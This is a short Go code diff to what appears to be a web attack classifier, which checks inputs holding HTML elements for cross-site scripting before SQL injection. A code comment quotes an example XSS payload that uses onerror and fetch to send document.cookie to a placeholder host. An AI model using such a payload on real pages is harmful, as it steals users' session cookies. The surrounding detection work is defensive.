@@ -300,11 +300,22 @@ func (in *input) judge() {
 	if in.detectSessionFixation(); in.certain() {
 		return
 	}
+	// A value holding an HTML element is read as HTML first: the quotes
+	// and "+" of an attribute such as onerror="fetch('//x/'+document.cookie)"
+	// fingerprint as SQL, but the sink they attack is the page.
+	htmlFirst := m.has(bLT) && htmlElementOpen(in.lower())
+	if htmlFirst {
+		if in.detectXSS(); in.certain() {
+			return
+		}
+	}
 	if in.detectSQLi(); in.certain() {
 		return
 	}
-	if in.detectXSS(); in.certain() {
-		return
+	if !htmlFirst {
+		if in.detectXSS(); in.certain() {
+			return
+		}
 	}
 	if in.detectCmd(); in.certain() {
 		return
